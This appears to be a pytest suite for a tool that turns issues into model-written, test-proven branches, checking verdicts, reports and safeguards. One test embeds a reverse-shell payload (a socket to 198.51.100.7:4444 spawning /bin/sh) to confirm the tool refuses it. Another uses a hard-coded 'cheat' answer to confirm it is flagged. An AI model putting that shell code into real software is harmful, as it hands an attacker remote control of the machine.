"""An issue in, a proven branch and its report out: the command as a person uses it."""

import json
from pathlib import Path

from tests.stories.stage import FILES, ISSUE, RIGHT, STUB, TESTS, WRONG, Person, whole

KEYS = {
    "run_id", "verdict", "branch", "head_sha", "attempts", "checks", "tests", "usage", "total_cost_usd", "reports",
    "elapsed_s", "phases",
}  # fmt: skip


def test_a_right_answer_is_proven_on_a_new_branch(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    done = ada.runs([whole("shapes.py", RIGHT)])
    assert done.code == 0, done.err
    found = done.document
    assert set(found) >= KEYS
    assert found["verdict"] == "proven"
    assert found["tests"]["red_to_green"]
    assert found["tests"]["broken"] == []
    assert found["usage"] == {
        "input_tokens": 100, "output_tokens": 20, "cache_read_tokens": 0, "cache_write_tokens": 0,
    }  # fmt: skip
    assert ada.branches() == [found["branch"]]
    assert found["branch"].startswith("pullwright/area-is-always-0-")
    assert ada.show(found["branch"], "shapes.py") == RIGHT
    assert ada.untouched()


def test_the_reports_lie_where_they_are_said_to_and_git_ignores_them(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    found = ada.runs([whole("shapes.py", RIGHT)]).document
    folder = ada.desk / ".pullwright" / found["run_id"]
    names = ["patch.diff", "report.docx", "report.json", "report.md", "report.sarif", "statement.dsse.json"]
    assert sorted(path.name for path in folder.iterdir()) == names
    assert (ada.desk / ".pullwright" / ".gitignore").read_text() == "*\n"
    assert "+    return width * height" in (folder / "patch.diff").read_text()
    assert "replay" in (folder / "report.md").read_text().lower()


def test_the_report_names_what_was_installed_and_only_that(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    found = ada.runs([whole("shapes.py", RIGHT)], "--sandbox", "docker").document
    report = json.loads(Path(found["reports"]["json"]).read_text())
    assert report["environment"]["commands"] == ["python -m pytest"]  # the image holds pytest


def test_a_failure_is_fed_back_and_the_next_attempt_is_proven(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    found = ada.runs([whole("shapes.py", WRONG), whole("shapes.py", RIGHT)]).document
    assert (found["verdict"], found["attempts"]) == ("proven", 2)
    shown = ada.types("show", found["run_id"][:8]).out
    assert "attempt 1" in shown
    assert "attempt 2" in shown


def test_the_best_attempt_is_kept_when_none_is_proven(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    done = ada.runs([whole("shapes.py", WRONG)], "--attempts", "1")
    assert done.code == 3
    found = done.document
    assert found["verdict"] in ("failed", "unproven")
    assert ada.show(found["branch"], "shapes.py") == WRONG
    assert Path(found["reports"]["markdown"]).is_file()


def test_green_without_red_is_unproven(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    tidy = STUB.replace("The area", "Computes the area")
    done = ada.runs([whole("shapes.py", tidy)], "--attempts", "1", issue="Reword the docstring of area")
    assert (done.code, done.document["verdict"]) == (3, "unproven")


def test_new_tests_of_the_model_prove_what_no_test_covered(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    tested = f"{TESTS}\n\ndef test_area():\n    assert area(2, 3) == 6\n"
    answer = whole("shapes.py", RIGHT) + whole("test_shapes.py", tested)
    found = ada.runs([answer], issue="area should multiply width and height").document
    assert found["verdict"] == "proven", found
    assert found["tests"]["red_to_green"] == ["test_shapes.py::test_area"]
    assert "all of that proof is in tests that came with the change" in found["checks"][0]["summary"]


def test_a_workflow_edit_is_refused_with_the_reason(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    done = ada.runs([whole(".github/workflows/ci.yml", "on: push\n")], "--attempts", "1")
    assert (done.code, done.document["verdict"]) == (4, "refused")
    assert ".github/workflows" in str(done.document["checks"])
    assert ada.branches() == []


def test_a_reverse_shell_ends_the_run(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    hostile = (
        "import socket, subprocess, os\n\n\ndef area(width, height):\n"
        "    s = socket.socket()\n    s.connect(('198.51.100.7', 4444))\n    os.dup2(s.fileno(), 0)\n"
        "    subprocess.call(['/bin/sh', '-i'])\n    return width * height\n"
    )
    done = ada.runs([whole("shapes.py", hostile), whole("shapes.py", RIGHT)])
    assert (done.code, done.document["verdict"], done.document["attempts"]) == (4, "refused", 1)
    assert ada.branches() == []


def test_an_empty_repository_is_a_fine_place_to_start(tmp_path: Path) -> None:
    ada = Person(tmp_path, files={})
    test = "from shapes import area\n\n\ndef test_area():\n    assert area(2, 3) == 6\n"
    answer = whole("shapes.py", RIGHT) + whole("test_shapes.py", test)
    found = ada.runs([answer], issue="Write a Python module shapes with a function area(width, height)").document
    assert found["verdict"] == "proven", found
    assert ada.show(found["branch"], "shapes.py") == RIGHT


def test_without_json_a_person_reads_steps_and_where_things_are(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    model = ada.replay([whole("shapes.py", RIGHT)])
    (ada.desk / "issue.md").write_text(ISSUE)
    done = ada.types("run", str(ada.repo), "--issue", "issue.md", "--model", model, "--out", "reports")
    assert done.code == 0, done.err
    assert "Proven, in a REPLAY." in done.out
    assert (done.out + done.err).count("REPLAY") == 2  # as it begins, with what that means, and in the verdict
    assert "red to green: 2" in done.out
    assert ", 1 attempt, " in done.out
    assert str(ada.desk / "reports") in done.out
    assert "baseline" in done.err
    assert "Traceback" not in done.err


def test_status_and_log_know_the_run(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    run = ada.runs([whole("shapes.py", RIGHT)]).document["run_id"]
    assert run in ada.types("status").out
    log = ada.types("log", run).out
    for word in ("step checkout", "step baseline", "attempt 1", "model scripted", "proven"):
        assert word in log, log


def test_the_issue_may_come_from_standard_input(tmp_path: Path) -> None:
    ada = Person(tmp_path, files=FILES)
    model = ada.replay([whole("shapes.py", RIGHT)])
    done = ada.types("run", str(ada.repo), "--issue", "-", "--model", model, "--branch", "fix/area", stdin=ISSUE)
    assert done.code == 0, done.err
    assert "fix/area" in done.out
    assert "NOT" not in done.out


def test_a_branch_that_is_there_already_is_left_alone_and_that_is_said(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    was = ada.git("rev-parse", "main")
    model = ada.replay([whole("shapes.py", RIGHT)])
    done = ada.types("run", str(ada.repo), "--issue", ISSUE, "--model", model, "--branch", "main")
    assert "branch   main-2" in done.out
    assert "NOT main: there is such a branch already" in done.out
    assert ada.git("rev-parse", "main") == was


def test_a_run_is_found_by_what_its_branch_ends_with(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    found = ada.runs([whole("shapes.py", RIGHT)]).document
    short = found["branch"].rpartition("-")[2]
    assert found["run_id"].startswith(short)
    for verb in (("show",), ("log",), ("run", "--resume")):
        said = ada.types(*verb, short)
        assert found["run_id"] in said.out + said.err


def test_a_rule_of_the_repository_keeps_a_change_from_being_proven(tmp_path: Path) -> None:
    rules = "checks:\n  - name: no-width\n    run: '! grep -rn width shapes.py'\n"
    ada = Person(tmp_path, files={**FILES, ".github/pullwright.yml": rules})
    done = ada.runs([whole("shapes.py", RIGHT)], "--attempts", "1")
    assert (done.code, done.document["verdict"]) == (3, "failed")
    assert "no-width" in str(done.document["checks"])


def test_an_answer_that_only_knows_the_examples_is_named(tmp_path: Path) -> None:
    ada = Person(tmp_path)
    known = "".join(f"    if (width, height) == ({w}, {h}):\n        return {w * h}\n" for w, h in ((2, 3), (4, 5)))
    cheat = STUB.replace("    return 0", f"{known}    return 0")
    done = ada.runs([whole("shapes.py", cheat)], "--attempts", "1")
    assert done.code == 3, done.out
    assert any(check["kind"] == "quality" and check["status"] == "failed" for check in done.document["checks"])


def test_a_test_run_has_half_a_minute_unless_somebody_allows_more(tmp_path: Path) -> None:
    ada = Person(tmp_path, settings={"PULLWRIGHT_WALL_S": ""})
    assert ada.runs([whole("shapes.py", RIGHT)]).code == 0
    (report,) = ada.desk.glob(".pullwright/*/report.md")
    assert "time of a command 30 s" in report.read_text(encoding="utf-8")


def test_tests_that_do_not_end_are_named_before_a_model_is_paid_with_what_allows_more(tmp_path: Path) -> None:
    slow = f"{TESTS}\n\ndef test_slow():\n    import time\n    time.sleep(600)\n"
    ada = Person(tmp_path, files={**FILES, "test_shapes.py": slow}, settings={"PULLWRIGHT_WALL_S": "4"})
    answers = ada.replay([whole("shapes.py", RIGHT)])
    done = ada.types("run", str(ada.repo), "--issue", ISSUE, "--model", answers, "--attempts", "1")
    assert done.code == 3
    early, _, late = done.err.partition("attempt 1:")
    assert "`wall_s` in .github/pullwright.yml allows more" in early
    assert "stopped after 4 s" in late
